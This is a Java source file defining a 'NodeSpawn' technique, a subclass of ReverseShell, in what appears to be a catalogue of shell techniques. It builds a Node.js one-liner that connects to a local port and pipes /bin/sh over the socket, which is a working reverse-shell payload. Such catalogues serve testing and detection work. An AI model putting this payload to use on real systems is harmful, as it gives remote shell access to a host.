/*
 * SPDX-License-Identifier: Apache-2.0
 * Copyright The Acheron Authors
 */
package io.acheron.local.technique;

import java.util.List;

/** The shell sees sockets, but of the local family: node's pipes are unix socket pairs. */
public final class NodeSpawn extends ReverseShell {
    /** Made by the service loader. */
    public NodeSpawn() {
        super("node-spawn", "node joins a socket to a shell over unix socket pairs", List.of(List.of("node")));
    }

    @Override
    List<String> command(Stage stage, int port) throws TechniqueFailedException {
        return List.of(stage.tool("node"), "-e", """
                const s = require("net").connect(%d, "127.0.0.1", () => {
                  const p = require("child_process").spawn("/bin/sh", []);
                  s.pipe(p.stdin); p.stdout.pipe(s); p.stderr.pipe(s);
                  p.on("exit", () => s.destroy());
                });
                """.formatted(port));
    }
}
